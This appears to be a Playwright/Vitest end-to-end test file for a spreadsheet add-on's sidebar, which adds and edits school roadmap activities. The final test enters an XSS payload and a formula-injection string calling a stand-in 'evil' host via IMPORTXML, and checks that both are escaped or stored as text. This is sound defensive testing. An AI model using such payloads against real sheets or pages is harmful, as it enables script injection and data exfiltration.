import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type ActivitySaveForm, applyActivity, planActivity, saveActivity } from '../../src/actions/activity';
import { makeActivityEndpoints } from '../../src/actions/activity-endpoints';
import { CATALOGUE_SHEET, writeCatalogue } from '../../src/actions/catalogue';
import { makeEndpoints } from '../../src/actions/endpoints';
import { emptyActivityForm } from '../../src/core/activity';
import { CATALOGUE } from '../../src/core/catalogue';
import { CATALOGUE_COLUMNS } from '../../src/core/catalogue-tab';
import type { Grid } from '../../src/core/results';
import { parseRoadmap, ROADMAP_COLUMN } from '../../src/core/roadmap-sheet';
import { MemoryWorkbook } from '../../src/workbook/memory';
import { inViewport, launch, openSidebar, screenshotPath } from '../support/browser';
import { sampleGrids } from '../support/sample';

let browser: Browser;
let grids: Grid[];
beforeAll(async () => {
  browser = await launch();
  grids = await sampleGrids();
});
afterAll(async () => {
  await browser?.close();
});

const NOW = new Date('2026-10-05T09:00:00Z');
const SCHOOL5 = 'ДК СОШ № 5 2026–27';
const catalogued = CATALOGUE.find((a) => a.level === 'school' && a.responsible && a.result && a.document && a.term)!;
const BUSY = 'Книга занята: её сейчас изменяет другой пользователь. Повторите через минуту.';

/** The endpoints as the add-on has them, with a fixed «today». */
const endpointsFor = (wb: MemoryWorkbook) => ({ ...makeEndpoints(wb), ...makeActivityEndpoints(wb, () => NOW) });

async function open(wb: MemoryWorkbook, endpoints: Parameters<typeof openSidebar>[2] = endpointsFor(wb), data?: unknown): Promise<Page> {
  const page = await openSidebar(browser, 'activity', endpoints, data);
  await page.waitForSelector('body[data-ready="true"]');
  return page;
}

const fieldError = (page: Page, field: string) => page.locator(`[data-field="${field}"] .field-error`).textContent();
const fieldWarning = (page: Page, field: string) => page.locator(`[data-field="${field}"] .field-warning`).textContent();
const rows = (wb: MemoryWorkbook, sheet: string) => parseRoadmap(wb.sheet(sheet).values).rows;

const form = (patch: Partial<ActivitySaveForm> = {}): ActivitySaveForm => ({
  ...emptyActivityForm(),
  block: 'Управленческий блок',
  activity: 'Совещание при директоре',
  schools: ['sch771005'],
  period: '2026-09-01/2027-08-31',
  ...patch,
});

describe('the activity sidebar in Chromium', () => {
  it('validates beside the fields, fills from the catalogue, saves and says where the row went', async () => {
    const wb = new MemoryWorkbook(grids);
    const page = await open(wb);
    expect(await page.textContent('#title')).toBe('Добавить мероприятие');
    expect(await page.inputValue('#period')).toBe('2026-09-01/2027-08-31');
    expect(await page.inputValue('#status')).toBe('запланировано');
    expect(await page.locator('#school-list input[type=checkbox]').count()).toBe(34);

    // Nothing filled: required fields are named beside them, nothing is written.
    await page.click('#save');
    await expect.poll(() => fieldError(page, 'activity')).toBe('Укажите мероприятие.');
    expect(await fieldError(page, 'block')).toBe('Укажите блок (направление).');
    expect(await fieldError(page, 'schools')).toBe('Выберите хотя бы одну школу или «район».');
    expect(await page.getAttribute('#activity', 'aria-invalid')).toBe('true');
    expect(await page.textContent('#error')).toBe('Мероприятие не сохранено: исправьте отмеченные поля.');
    expect(wb.sheetNames().some((n) => n.startsWith('ДК '))).toBe(false);
    // The summary is beside the button, both on screen in a 300 × 700 sidebar.
    await page.setViewportSize({ width: 300, height: 700 });
    expect(await inViewport(page, '#save')).toBe(true);
    expect(await inViewport(page, '#error')).toBe(true);

    // The school filter, then a catalogue activity: picking it fills block, term, responsible, result, document.
    await page.fill('#school-filter', 'сош № 5');
    expect(await page.locator('#school-list label:visible').count()).toBe(1);
    await page.check('#school-list input[value="sch771005"]');
    expect(await page.textContent('#school-count')).toBe('Выбрано: 1.');
    expect(await page.locator(`#activity-list option[value="${catalogued.activity.replace(/"/g, '\\"')}"]`).count()).toBe(1);
    await page.fill('#activity', catalogued.activity);
    expect(await page.inputValue('#block-select')).toBe(catalogued.block);
    expect(await page.inputValue('#responsible')).toBe(catalogued.responsible);
    expect(await page.inputValue('#result')).toBe(catalogued.result);
    expect(await page.inputValue('#document')).toBe(catalogued.document);
    expect(await page.inputValue('#term')).toBe(catalogued.term);

    // The dates the term gives are shown as the term is typed.
    await page.fill('#term', 'декабрь');
    await expect
      .poll(() => page.textContent('#term-hint'))
      .toBe('Даты по срокам: 01.12.2026 – 31.12.2026. Месяцы отнесены к выбранному периоду.');

    // Dates in the wrong order: refused beside «Окончание».
    await page.fill('#start', '30.11.2026');
    await page.fill('#end', '01.11.2026');
    await page.click('#save');
    await expect.poll(() => fieldError(page, 'end')).toBe('Окончание раньше начала.');
    expect(await fieldError(page, 'activity')).toBe('');
    expect(await page.textContent('#error')).toBe('Мероприятие не сохранено: исправьте отмеченные поля.');

    await page.fill('#end', '10.09.2027');
    // Fixed: the summary goes as soon as the fields are right, before the next click.
    await expect.poll(() => page.textContent('#error')).toBe('');
    await page.click('#save');
    await expect
      .poll(() => page.textContent('#status-line'))
      .toBe(
        `Добавлено в «${SCHOOL5}», строка 5. Создан лист: «${SCHOOL5}». Дата 10.09.2027 вне периода дорожной карты (01.09.2026 – 31.08.2027).`,
      );
    expect(await page.textContent('#error')).toBe('');
    expect(await fieldWarning(page, 'end')).toBe('');
    expect(rows(wb, SCHOOL5)).toMatchObject([
      {
        sheetRow: 5,
        number: '1.1',
        activity: catalogued.activity,
        start: '2026-11-30',
        end: '2027-09-10',
        school: 'sch771005',
        code: catalogued.id,
        control: '',
      },
    ]);

    // Ready for the next one: the same school, period and block; the rest is empty.
    expect(await page.inputValue('#activity')).toBe('');
    expect(await page.inputValue('#responsible')).toBe('');
    expect(await page.isChecked('#school-list input[value="sch771005"]')).toBe(true);
    expect(await page.inputValue('#block-select')).toBe(catalogued.block);
    await page.fill('#activity', 'Своё мероприятие: разбор ошибок ВПР с педагогами');
    await page.fill('#term', 'ноябрь');
    await page.click('#save');
    await expect
      .poll(() => page.textContent('#status-line'))
      .toBe(`Добавлено в «${SCHOOL5}», строка 6. Даты по срокам: 01.11.2026 – 30.11.2026. Месяцы отнесены к выбранному периоду.`);
    expect(rows(wb, SCHOOL5)[1]).toMatchObject({ number: '1.2', start: '2026-11-01', end: '2026-11-30', code: '' });
    await page.fill('#activity', 'Мониторинг посещения уроков');
    await page.selectOption('#status', 'в работе');
    await page.screenshot({ path: screenshotPath('activity-sidebar.png'), fullPage: true });
    await page.close();
  });

  it('dates typed as дд.мм.гггг: the dots come by themselves, an impossible date says so as it is typed, ISO goes to the sheet', async () => {
    const wb = new MemoryWorkbook(grids);
    const page = await open(wb);
    expect(await page.getAttribute('#start', 'placeholder')).toBe('дд.мм.гггг');
    await page.check('#school-list input[value="sch771005"]');
    await page.selectOption('#block-select', 'Управление и мониторинг');
    await page.fill('#activity', 'Совещание при директоре');
    const start = page.locator('#start');
    await start.pressSequentially('3102');
    expect(await start.inputValue()).toBe('31.02');
    // February never has 31 days: said before the year is typed.
    await expect.poll(() => fieldError(page, 'start')).toBe('Такой даты нет: в феврале не больше 29 дней.');
    await start.pressSequentially('2026');
    expect(await start.inputValue()).toBe('31.02.2026');
    await expect.poll(() => fieldError(page, 'start')).toBe('Такой даты нет: в феврале 2026 года 28 дней.');
    expect(await start.getAttribute('aria-invalid')).toBe('true');
    // Deleting is not masked: the dot can go, and half a date is called half a date.
    await start.fill('29.02');
    await expect.poll(() => fieldError(page, 'start')).toBe('Дата введена не полностью: нужны день, месяц и год.');
    await start.press('End');
    await start.press('Backspace');
    expect(await start.inputValue()).toBe('29.0');
    // Saved with the impossible date: the server says the same beside the field and writes nothing.
    await start.fill('29.02.2027');
    await page.click('#save');
    await expect.poll(() => fieldError(page, 'start')).toBe('Такой даты нет: в феврале 2027 года 28 дней.');
    expect(wb.sheetNames().some((n) => n.startsWith('ДК '))).toBe(false);
    await page.screenshot({ path: screenshotPath('activity-impossible-date.png'), fullPage: true });
    // Outside the roadmap's period: a warning as it is typed; more than a year outside, an error.
    const end = page.locator('#end');
    await end.pressSequentially('10092027');
    await expect.poll(() => fieldWarning(page, 'end')).toBe('Дата 10.09.2027 вне периода дорожной карты (01.09.2026 – 31.08.2027).');
    await end.fill('01.09.2029');
    await expect
      .poll(() => fieldError(page, 'end'))
      .toBe('Дата 01.09.2029 далеко за пределами периода дорожной карты (01.09.2026 – 31.08.2027): проверьте год.');
    await end.fill('');
    await start.fill('');
    await start.pressSequentially('28022027');
    expect(await start.inputValue()).toBe('28.02.2027');
    await expect.poll(() => fieldError(page, 'start')).toBe('');
    await page.click('#save');
    await expect.poll(() => page.textContent('#status-line')).toMatch(/^Добавлено в «ДК СОШ № 5 2026–27», строка 5\./);
    expect(rows(wb, SCHOOL5)).toMatchObject([{ activity: 'Совещание при директоре', start: '2027-02-28' }]);
    await page.close();
  });

  it('a block of one’s own, and the district’s roadmap', async () => {
    const wb = new MemoryWorkbook(grids);
    const page = await open(wb);
    await page.check('#school-list input[value="район"]');
    await page.selectOption('#block-select', { label: 'Свой блок…' });
    expect(await page.isVisible('#block')).toBe(true);
    await page.fill('#block', 'Цифровая образовательная среда');
    await page.fill('#activity', 'Подключение школ к ФГИС «Моя школа»');
    await page.click('#save');
    await expect.poll(() => page.textContent('#status-line')).toMatch(/^Добавлено в «ДК район 2026–27», строка 5\./);
    expect(parseRoadmap(wb.sheet('ДК район 2026–27').values).sections.map((s) => s.block)).toEqual(['Цифровая образовательная среда']);
    // The headings of the roadmap the rows go to join the block list once its owner is chosen.
    expect(await page.locator('#block-select option[value="Цифровая образовательная среда"]').count()).toBe(0);
    await page.uncheck('#school-list input[value="район"]');
    await page.check('#school-list input[value="район"]');
    await expect.poll(() => page.locator('#block-select option[value="Цифровая образовательная среда"]').count()).toBe(1);
    await page.close();
  });

  it('edits the selected row in the same form, and says what is wrong with another selection', async () => {
    const wb = new MemoryWorkbook(grids);
    saveActivity(wb, form());
    saveActivity(wb, form({ activity: 'Второе', start: '2026-11-01', end: '2026-11-30' }));
    const page = await open(wb, endpointsFor(wb), { mode: 'edit', target: { sheet: SCHOOL5, row: 6 } });
    expect(await page.textContent('#title')).toBe('Изменить мероприятие');
    expect(await page.textContent('#where')).toBe(`Лист «${SCHOOL5}», строка 6, № 1.2 · СОШ № 5 (sch771005), 2026/27`);
    expect(await page.isVisible('#schools-field')).toBe(false);
    expect(await page.inputValue('#activity')).toBe('Второе');
    expect(await page.inputValue('#start')).toBe('01.11.2026');
    expect(await page.inputValue('#block-select')).toBe('Управленческий блок');
    await page.selectOption('#status', 'выполнено');
    await page.fill('#mark', 'Проведено 20.11.2026, протокол № 4');
    await page.click('#save');
    await expect.poll(() => page.textContent('#status-line')).toBe(`Изменено: «${SCHOOL5}», строка 6.`);
    expect(rows(wb, SCHOOL5).map((r) => [r.number, r.activity, r.status, r.mark])).toEqual([
      ['1.1', 'Совещание при директоре', 'запланировано', ''],
      ['1.2', 'Второе', 'выполнено', 'Проведено 20.11.2026, протокол № 4'],
    ]);

    // Someone else changes the row meanwhile: the server refuses, the message is shown, nothing is overwritten.
    wb.sheet(SCHOOL5).values[5]![ROADMAP_COLUMN.mark] = 'Правка коллеги';
    await page.selectOption('#status', 'отменено');
    await page.click('#save');
    await expect.poll(() => page.textContent('#error')).toMatch(/^Строка не найдена: пока форма была открыта, мероприятие «Второе»/);
    expect(rows(wb, SCHOOL5)[1]).toMatchObject({ status: 'выполнено', mark: 'Правка коллеги' });

    // Another selection: a block heading, then a sheet that is not a roadmap.
    wb.selection = { sheet: SCHOOL5, row: 3, col: 1 };
    await page.click('#from-selection');
    await expect
      .poll(() => page.textContent('#error'))
      .toBe(`Строка 4 листа «${SCHOOL5}» — заголовок блока «Управленческий блок». Выделите строку мероприятия под ним.`);
    wb.selection = { sheet: 'Школы', row: 5, col: 1 };
    await page.click('#from-selection');
    await expect.poll(() => page.textContent('#error')).toMatch(/^Лист «Школы» — не дорожная карта\./);
    wb.selection = { sheet: SCHOOL5, row: 4, col: 1 };
    await page.click('#from-selection');
    await expect.poll(() => page.inputValue('#activity')).toBe('Совещание при директоре');
    expect(await page.textContent('#error')).toBe('');

    await page.click('#new');
    expect(await page.textContent('#title')).toBe('Добавить мероприятие');
    expect(await page.inputValue('#activity')).toBe('');
    expect(await page.isVisible('#schools-field')).toBe(true);
    await page.close();
  });

  it('opened on a header row, it says so instead of loading', async () => {
    const wb = new MemoryWorkbook(grids);
    saveActivity(wb, form());
    const page = await open(wb, endpointsFor(wb), { mode: 'edit', target: { sheet: SCHOOL5, row: 2 } });
    expect(await page.textContent('#title')).toBe('Добавить мероприятие');
    expect(await page.textContent('#error')).toMatch(/^Строка 2 листа «ДК СОШ № 5 2026–27» — заголовок дорожной карты/);
    await page.close();
  });

  it('shows a server failure instead of losing it, on save and on load', async () => {
    const wb = new MemoryWorkbook(grids);
    const failing = { ...endpointsFor(wb), apiSaveActivity: () => Promise.reject(new Error(BUSY)) };
    const page = await open(wb, failing);
    await page.check('#school-list input[value="sch771005"]');
    await page.selectOption('#block-select', { index: 1 });
    await page.fill('#activity', 'Что-то');
    await page.click('#save');
    await expect.poll(() => page.textContent('#error')).toBe(`Не удалось сохранить: ${BUSY}`);
    expect(await page.isEnabled('#save')).toBe(true);
    expect(await page.inputValue('#activity')).toBe('Что-то');
    await page.close();

    const broken = { ...endpointsFor(wb), apiActivityForm: () => Promise.reject(new Error('Нет доступа к таблице')) };
    const page2 = await openSidebar(browser, 'activity', broken);
    await expect.poll(() => page2.textContent('#error')).toBe('Не удалось загрузить форму: Нет доступа к таблице');
    expect(await page2.isDisabled('#save')).toBe(true);
    await page2.close();
  });

  it('two people saving at once from two sidebars: both rows land, numbered distinctly', async () => {
    const wb = new MemoryWorkbook(grids);
    saveActivity(wb, form());
    // Each save is a read-compute round trip and a write round trip, under one hold of a document lock.
    let tail: Promise<unknown> = Promise.resolve();
    const locked = (f: ActivitySaveForm) => {
      const run = async () => {
        const plan = planActivity(wb, f);
        await new Promise((r) => setTimeout(r, 50));
        return applyActivity(wb, plan);
      };
      const next = tail.then(run, run);
      tail = next.catch(() => undefined);
      return next;
    };
    const endpoints = { ...endpointsFor(wb), apiSaveActivity: locked };
    const [a, b] = await Promise.all([open(wb, endpoints), open(wb, endpoints)]);
    for (const [page, name] of [
      [a, 'Анна'],
      [b, 'Борис'],
    ] as const) {
      await page.check('#school-list input[value="sch771005"]');
      await page.selectOption('#block-select', 'Управленческий блок');
      await page.fill('#activity', `Мероприятие: ${name}`);
    }
    await Promise.all([a.click('#save'), b.click('#save')]);
    await expect
      .poll(() => Promise.all([a.textContent('#status-line'), b.textContent('#status-line')]))
      .toEqual([
        expect.stringMatching(/^Добавлено в «ДК СОШ № 5 2026–27», строка [67]\.$/),
        expect.stringMatching(/^Добавлено в «ДК СОШ № 5 2026–27», строка [67]\.$/),
      ]);
    const found = rows(wb, SCHOOL5).map((r) => [r.number, r.activity]);
    expect(found.map((r) => r[1]).sort()).toEqual(['Мероприятие: Анна', 'Мероприятие: Борис', 'Совещание при директоре']);
    expect(new Set(found.map((r) => r[0])).size).toBe(3);
    await a.close();
    await b.close();
  });

  it('escapes everything it shows, and stores formula-like text as text', async () => {
    const wb = new MemoryWorkbook(grids);
    const hostile = '<img src=x onerror="window.__pwned=1">';
    // A school name in the registry and an activity of the district's catalogue tab.
    const registry = wb.sheet('Школы');
    const nameCol = registry.values.findIndex((r) => r.includes('sch771005'));
    const line = registry.values[nameCol]!;
    line[line.findIndex((v) => v === 'МБОУ «СОШ № 5»')] = hostile;
    writeCatalogue(wb);
    wb.sheet(CATALOGUE_SHEET).values[1]![CATALOGUE_COLUMNS.findIndex((c) => c.key === 'activity')] = `${hostile} мероприятие`;
    saveActivity(wb, form({ activity: `${hostile} строка` }));
    const page = await open(wb);
    expect(await page.locator('#school-list label', { hasText: hostile }).count()).toBe(1);
    expect(await page.locator(`#activity-list option[value="${hostile.replace(/"/g, '\\"')} мероприятие"]`).count()).toBe(1);

    // In edit mode the row's own text is loaded into the fields and the heading line.
    wb.selection = { sheet: wb.sheetNames().find((n) => n.startsWith('ДК '))!, row: 4, col: 2 };
    await page.click('#from-selection');
    await expect.poll(() => page.inputValue('#activity')).toBe(`${hostile} строка`);
    expect(await page.textContent('#where')).toContain('<img src=x onerror=');
    expect(await page.evaluate(() => document.querySelectorAll('img').length)).toBe(0);
    expect(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined();

    // A value starting with =, +, -, @ goes to the sheet as text.
    await page.click('#new');
    await page.check('#school-list input[value="район"]');
    await page.selectOption('#block-select', { index: 1 });
    await page.fill('#activity', '=IMPORTXML("http://evil","//a")');
    await page.fill('#responsible', '+79000000000');
    await page.fill('#result', '-1');
    await page.fill('#document', '@all');
    await page.click('#save');
    await expect.poll(() => page.textContent('#status-line')).toMatch(/^Добавлено в «ДК район 2026–27»/);
    const s = wb.sheet('ДК район 2026–27');
    const r = s.values[4]!;
    expect([r[ROADMAP_COLUMN.activity], r[ROADMAP_COLUMN.responsible], r[ROADMAP_COLUMN.result], r[ROADMAP_COLUMN.document]]).toEqual([
      '=IMPORTXML("http://evil","//a")',
      '+79000000000',
      '-1',
      '@all',
    ]);
    expect(s.formulas.flat().filter((f) => f)).toEqual([]);
    await page.close();
  });
});
